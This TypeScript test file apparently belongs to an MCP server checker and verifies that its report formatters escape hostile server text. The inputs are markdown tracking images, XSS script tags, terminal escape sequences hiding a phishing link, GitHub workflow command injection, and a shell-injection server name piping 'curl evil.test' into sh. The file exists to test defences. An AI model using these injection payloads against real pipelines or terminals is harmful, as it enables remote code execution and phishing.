import type { Finding } from '../../src/checks/types.js';
import { formatAnnotations } from '../../src/report/annotations.js';
import { formatComment } from '../../src/report/comment.js';
import { formatConsole, formatOutputLines } from '../../src/report/console.js';
import { formatOutputs } from '../../src/report/outputs.js';
import { codeSpan, escapeMarkdown, escapeSarifText, escapeTableCell, fenceCommands, showControls } from '../../src/report/escape.js';
import type { Report } from '../../src/report/report.js';
import { formatSarif } from '../../src/report/sarif.js';
import { formatSummary } from '../../src/report/summary.js';

const PIXEL = 'http://127.0.0.1:9/pixel.png';
const IMAGE = `![x](${PIXEL})`;
const ESCAPES = '\x1b[2J\x1b]8;;http://127.0.0.1:9/phish\x07link\x1b]8;;\x07\rover\x9b31m\u202e';

function reportWith(findings: Finding[], name = 'demo'): Report {
  return {
    tool: { name: 'mcp-preflight', version: '0.1.0' },
    verdict: 'fail',
    target: { transport: 'stdio', command: 'node server.js' },
    server: { name, version: '<script>alert(1)</script>', protocolVersion: '2025-11-25 | x', capabilities: {} },
    surface: { tools: [], resources: [], resourceTemplates: [], prompts: [] },
    checks: [{ id: 'tools.name', title: 'Tool names are well-formed and unique', status: 'fail', durationMs: 3 }],
    findings,
    timings: { totalMs: 10 },
    triage: [],
    logs: [],
    observations: { versionMatrix: [{ era: 'legacy', requested: '2025-11-25', answered: `${IMAGE} | <b>`, durationMs: 1 }] },
  };
}

const HOSTILE: Finding = {
  id: 'tools.name',
  severity: 'error',
  title: 'Tool names are well-formed and unique',
  message: `The tool name "${IMAGE}" is odd <img src=${PIXEL}> [docs](http://127.0.0.1:9/) @octocat #12 ${ESCAPES}\nsecond line \`\`\` <script>\nthird`,
  hint: 'Rename the tool to letters, digits, `_`, `-` and `.`.',
};

/**
 * What GitHub would render from `markdown` besides the project's own formatting: images, links, raw HTML,
 * bare URLs, mentions and issue links, outside code spans and backslash escapes.
 */
function renderable(markdown: string): string[] {
  const text = markdown
    .replace(/```text\n[\s\S]*?\n```/g, '')
    .replace(/^<!-- mcp-preflight:\w+ -->/, '')
    .replace(/\[Workflow run\]\([^)]*\)/g, '')
    .replace(/<\/?(details|summary|sub)>/g, '')
    .replace(/`[^`\n]*`/g, '')
    .replace(/\\[\s\S]/g, '');
  return [...text.matchAll(/!?\[|\]\(|<[a-z/!]|https?:\/\/|@[a-z]|#\d/gi)].map((m) => m[0]);
}

describe('showControls', () => {
  it('shows every control character and terminal escape as a visible escape, keeping tabs and newlines', () => {
    expect(showControls(`a\tb\n${ESCAPES}\x00\x7f\u2028`)).toBe(
      'a\tb\n\\x1b[2J\\x1b]8;;http://127.0.0.1:9/phish\\x07link\\x1b]8;;\\x07\\x0dover\\x9b31m\\u202e\\x00\\x7f\\u2028',
    );
  });
});

describe('fenceCommands', () => {
  it('puts the text between stop-commands and a resume token no one can guess', () => {
    const fenced = fenceCommands('::warning::pwned\n::stop-commands::abc');
    const [open, ...rest] = fenced.split('\n');
    const token = open.replace('::stop-commands::', '');
    expect(token).toMatch(/^[0-9a-f]{32}$/);
    expect(rest).toEqual(['::warning::pwned', '::stop-commands::abc', `::${token}::`]);
    expect(fenceCommands('x').split('\n')[0]).not.toBe(open);
  });
});

describe('escapeMarkdown', () => {
  it.each([
    ['an image', IMAGE, '\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)'],
    ['a link', '[docs](http://127.0.0.1:9/)', '\\[docs\\](http\\://127.0.0.1:9/)'],
    ['an autolink', `<${PIXEL}>`, '&lt;http\\://127.0.0.1:9/pixel.png&gt;'],
    ['a www link', 'www.evil.test', 'www\\.evil.test'],
    ['HTML', '<img src=x><script>alert(1)</script>', '&lt;img src=x&gt;&lt;script&gt;alert(1)&lt;/script&gt;'],
    ['an entity', '&lt;b&gt;', '\\&lt;b\\&gt;'],
    ['emphasis', '**bold** _it_ ~~del~~', '\\*\\*bold\\*\\* \\_it\\_ \\~\\~del\\~\\~'],
    ['a mention and an issue link', '@octocat #12', '@\u200boctocat #\u200b12'],
    ['a backslash that would escape an escape', '\\[x]', '\\\\\\[x\\]'],
    ['a new line that would start a block', 'a\n<script>x', 'a &lt;script&gt;x'],
    ['an unmatched backtick', 'a ` b', 'a \\` b'],
  ])('neutralises %s', (_, text, expected) => {
    expect(escapeMarkdown(text)).toBe(expected);
    expect(renderable(escapeMarkdown(text))).toEqual([]);
  });

  it("keeps code spans, the project's own formatting, as they are", () => {
    expect(escapeMarkdown('Set `transport: auto`, or ``a`b``.')).toBe('Set `transport: auto`, or ``a`b``.');
  });

  it("escapes what follows a code span a backtick in the server's text closed early", () => {
    expect(escapeMarkdown(`Add \`resource="x\`${IMAGE}"\` to it`)).toBe('Add `resource="x`\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)"\\` to it');
  });

  it('escapes pipes inside code spans too in a table cell, where GitHub would split the cell', () => {
    expect(escapeTableCell('a | `b | c` \\| d')).toBe('a \\| `b \\| c` \\\\\\| d');
  });
});

describe('codeSpan', () => {
  it('fences text with more backticks than any run inside it, so nothing in it renders', () => {
    expect(codeSpan('out/report.json')).toBe('`out/report.json`');
    expect(codeSpan(`a \`\`${IMAGE}\``)).toBe(`\`\`\` a \`\`${IMAGE}\` \`\`\``);
  });
});

describe('escapeSarifText', () => {
  it('escapes the brackets of SARIF embedded links and shows control characters', () => {
    expect(escapeSarifText(`${IMAGE}\x1b[2J`)).toBe('!\\[x\\](http://127.0.0.1:9/pixel.png)\\x1b\\[2J');
  });
});

describe("reporters given the server's words", () => {
  const report = reportWith([HOSTILE], `<img src=${PIXEL}>${IMAGE}`);

  it("the job summary renders no image, link or HTML of the server's, and keeps its own layout", () => {
    const summary = formatSummary(report);
    expect(renderable(summary)).toEqual([]);
    expect(summary).toContain('**`tools.name`** The tool name "\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)" is odd &lt;img');
    expect(summary).toContain('> **Fix:** Rename the tool to letters, digits, `_`, `-` and `.`.');
    expect(summary).toContain("```text\nsecond line ''' <script>\nthird\n```");
    expect(summary).toContain('| Protocol version | 2025-11-25 \\| x |');
    expect(summary).toContain('| 2025-11-25 | \\!\\[x\\](http\\://127.0.0.1:9/pixel.png) \\| &lt;b&gt; |');
    expect(summary).toContain('\\x1b\\[2J');
    // eslint-disable-next-line no-control-regex -- the point: no control character reaches the summary.
    expect(summary).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
  });

  it('the pull-request comment renders none of them either', () => {
    const body = formatComment(report, { serverKey: 'abc123', runUrl: 'https://github.com/o/r/actions/runs/1' });
    expect(renderable(body)).toEqual([]);
    expect(body).toContain('\\!\\[x\\](http\\://127.0.0.1:9/pixel.png)');
    expect(body).toContain('`_`, `-` and `.`');
  });

  it('the console and the log show escapes instead of sending them to the terminal', () => {
    const text = `${formatConsole(report)}\n${formatOutputLines([`line ${ESCAPES}`])}`;
    // eslint-disable-next-line no-control-regex -- the point: no control character other than LF is printed.
    expect(text).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F\u202e]/);
    expect(text).toContain('\\x1b[2J\\x1b]8;;http://127.0.0.1:9/phish\\x07link');
  });

  it("SARIF messages carry no embedded link of the server's", () => {
    const [result] = formatSarif(report, [], { fallbackLocation: { file: 'README.md' } }).runs[0].results ?? [];
    expect(result.message.text).not.toMatch(/(?<!\\)[[\]]/);
    expect(result.message.text).toContain('!\\[x\\](http://127.0.0.1:9/pixel.png)');
  });

  it("step outputs carry no shell code of the server's into a run: script that pastes them", () => {
    const outputs = formatOutputs({
      ...report,
      server: { name: 'x"; curl evil.test | sh; echo "$(id)`id`\nnext', version: '1.2.3-beta+build', protocolVersion: '2025-11-25', capabilities: {} },
    });
    expect(outputs['server-name']).toBe('x__ curl evil.test _ sh_ echo ___id__id__next');
    expect(outputs['server-version']).toBe('1.2.3-beta+build');
    expect(formatOutputs({ ...report, server: { ...report.server!, name: 'mcp-servers/everything' } })['server-name']).toBe('mcp-servers/everything');
  });

  it('annotations are plain text with visible escapes; their title is the check id', () => {
    const [annotation] = formatAnnotations([HOSTILE]);
    expect(annotation.title).toBe('tools.name');
    // eslint-disable-next-line no-control-regex -- the point: no control character other than LF is annotated.
    expect(annotation.message).not.toMatch(/[\u0000-\u0009\u000B-\u001F\u007F-\u009F]/);
    expect(annotation.message).toContain('\\x0dover');
  });
});
